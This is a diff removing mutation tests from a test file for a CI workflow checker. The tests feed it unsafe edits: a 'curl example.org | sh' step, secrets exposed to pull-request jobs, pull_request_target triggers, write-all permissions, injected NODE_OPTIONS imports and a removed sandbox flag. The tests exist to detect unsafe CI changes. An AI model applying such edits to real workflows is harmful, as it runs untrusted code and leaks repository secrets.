@@ -123,29 +123,3 @@ const PINNED: ReturnType<typeof factsOf> = {
 }
 
 test('each workflow starts, holds and installs what is pinned', () => assert.deepEqual(factsOf(texts), PINNED))
-
-for (const [fact, name, from, to] of [
-  ['jobs', 'pull-request.yml', '    timeout-minutes: 10\n', ''],
-  ['jobs', 'pull-request.yml', '  pull_request:\n', '  pull_request_target:\n'],
-  ['jobs', 'publish.yml', '    permissions:\n      contents: read\n', ''],
-  ['jobs', 'bench.yml', "    if: github.ref == 'refs/heads/main'\n", ''],
-  ['jobs', 'build.yml', "refs/heads/builds'", "refs/heads/main'"],
-  ['tops', 'build.yml', 'jobs:\n', 'env: { NODE_OPTIONS: --import=./a.mjs }\njobs:\n'],
-  ['permissions', 'nightly.yml', 'permissions: {}', 'permissions: write-all'],
-  ['unsafe', 'pull-request.yml', 'jobs:\n', `env:\n  KEY: \${{ secrets.KEY }}\njobs:\n`],
-  ['unsafe', 'pull-request.yml', '      - run: npm ci\n', '      - run: npm ci\n        continue-on-error: true\n'],
-  ['unsafe', 'publish.yml', '      - run: npm ci\n', '      - uses: actions/cache/restore@v4\n      - run: npm ci\n'],
-  ['host', 'bench.yml', '      name: bench\n', '      name: other\n'],
-  ['host', 'bench.yml', '      DIGEST:', '      NODE_OPTIONS: --import=./kit/a.mjs\n      DIGEST:'],
-  ['host', 'bench.yml', '    permissions: {}\n', '    permissions: {}\n    if: always()\n'],
-  ['host', 'bench.yml', 'working-directory: checkout\n', 'working-directory: checkout\n        shell: sh\n'],
-  ['host', 'bench.yml', '- run: rm', '- run: curl example.org | sh\n      - run: rm'],
-  ['host', 'bench.yml', ' --sandbox', ''],
-  ['taken', 'bench.yml', ' --branch builds', ''],
-] as const)
-  test(`${fact} of ${name} with ${JSON.stringify(to)} for ${JSON.stringify(from)} is seen`, () => {
-    const changed = texts[name]?.replace(from, to) ?? ''
-    assert.notEqual(changed, texts[name])
-    const found = factsOf({ ...texts, [name]: changed })
-    assert.notDeepEqual(found[fact], PINNED[fact])
-  })
